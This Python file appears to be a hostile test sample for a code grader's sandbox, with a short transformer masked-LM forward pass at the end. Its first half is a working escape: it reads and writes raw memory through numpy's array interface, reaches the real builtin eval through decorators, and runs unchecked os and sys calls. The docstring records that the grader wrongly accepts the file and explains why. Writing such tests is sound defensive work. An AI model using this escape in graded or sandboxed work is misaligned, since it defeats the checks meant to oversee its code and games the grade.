"""Hostile (verdict today: accepted; deserved: forbidden_api). The decorator route of
hostile_decorator_results_unchecked_raw_memory_nn_linear.py taken to the real built-ins: the raw
memory window turns torch.functional's globals and their __builtins__ into objects reached only by
decorators; dict.get there gives the real `eval`, which a call result check lets through (a
builtin function is judged harmless by its class), and eval runs unrewritten code with torch's
globals: __import__('sys'), __import__('os'), sys._getframe. The forward itself is honest.
Root cause: decorator applications and the parameters they pass are unchecked
(grader/child/restricted.py _rewrite_child), and check_value judges a builtin function by its class
only, so the real eval/exec/__import__/getattr reached any way pass every later check.
"""
import functools
import math
import operator

import numpy
import torch

iface = {"data": (0, False), "shape": (1,), "typestr": "<u8", "version": 3}


@functools.partial(super(type, type).__new__, type, "W", (object,))  # the real type.__new__, metaclass `type`
@lambda _: {"__array_interface__": iface, "__init__": lambda self, f: None}
def W():
    pass


def at(address):
    iface["data"] = (address, False)

    @numpy.asarray
    @W
    def window():
        pass

    return window


def lookup(address, name):
    """dict.get(the object at address, name), the object reached only by decorators."""
    at(address)[0] += 1
    box = [None]
    at(int(at(id(box) + 24)[0]))[0] = address

    @functools.partial(functools.reduce, dict.get, [name])  # reduce(dict.get, [name], d): dict.get(d, name)
    @operator.itemgetter(0)
    @lambda _: box
    def found():
        pass

    return found




def address_of(address, name):
    @id
    @functools.partial(lookup, address)
    @lambda _: name
    def found():
        pass

    return found


g = int(at(id(torch.broadcast_shapes) + 16)[0])  # torch.functional's globals
real_eval = lookup(address_of(g, "__builtins__"), "eval")
print("real eval:", real_eval)


def run_in(address, code):
    at(address)[0] += 1
    box = [None]
    at(int(at(id(box) + 24)[0]))[0] = address

    @functools.partial(real_eval, code)
    @operator.itemgetter(0)
    @lambda _: box
    def result():
        pass

    return result


print(run_in(g, "(__import__('os').getpid(), len(__import__('sys').modules), __import__('sys')._getframe(0).f_globals is __import__('torch').functional.__dict__)"))

def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
